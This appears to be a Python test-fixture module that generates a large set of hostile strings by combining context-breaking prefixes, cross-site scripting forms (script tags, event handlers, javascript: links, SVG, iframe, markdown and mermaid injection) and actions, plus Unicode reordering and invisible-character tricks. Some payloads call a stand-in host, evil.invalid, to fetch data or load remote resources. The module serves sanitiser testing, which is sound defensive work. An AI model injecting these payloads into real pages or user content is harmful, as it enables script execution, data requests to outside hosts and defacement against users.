"""Hostile texts by grammar: each way in which a text has been made to act in a page, around each thing it could do there."""

from __future__ import annotations

from itertools import product

# What a text does if it runs: it sets a mark on the window, or asks for something from outside.
ACTS = ("window.__ran=1", "fetch('http://evil.invalid/x')", "document.body.innerHTML='gone'")
OPENINGS = ("", '"', "'", ">", '">', "-->", "</p>", "</blockquote>", "</title>", "</textarea>", "]]>", '\\"', "&quot;>")
FORMS = (
    "<script>{0}</script>",
    "<ScRiPt/x>{0}</sCrIpT >",
    "<img src=x onerror={0}>",
    "<img src='http://evil.invalid/p.png'>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><a xlink:href='javascript:{0}'><text>x</text></a></svg>",
    "<math><mtext><style><img src onerror={0}></style></mtext></math>",
    "<body onload={0}>",
    "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<object data='http://evil.invalid/o'></object>",
    "<embed src='http://evil.invalid/e'>",
    "<link rel=stylesheet href='http://evil.invalid/c.css'>",
    "<style>@import 'http://evil.invalid/c.css'; *{{display:none}}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over</div>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href='http://evil.invalid/'>",
    "<form action='http://evil.invalid/'><input name=q autofocus onfocus={0}></form>",
    "<a href='javascript:{0}'>click</a>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "${{{0}}}",
    "{{{{{0}}}}}",
    "[click](javascript:{0})",
    "![x](http://evil.invalid/m.png)",
    "$$\\href{{javascript:{0}}}{{x}}$$",
    "```mermaid\ngraph TD; A-->B; click A call {0}\n```",
    "<!--[if IE]><script>{0}</script><![endif]-->",
)
# Characters that reorder, hide or join others: they have to stay as they are, and stay within their own text.
TRICKS = (
    "\u202e reversed \u202c",
    "\u2066 isolated \u2069",
    "\u200b\u200c\u200d\u2060\ufeff",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306",
    "\u061c\u200f right",
    "\ufff9note\ufffa\ufffb",
    "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "line one\u2028line two\u2029end",
)
HOSTILE = tuple(start + form.format(act) for start, form, act in product(OPENINGS, FORMS, ACTS[:2])) + TRICKS
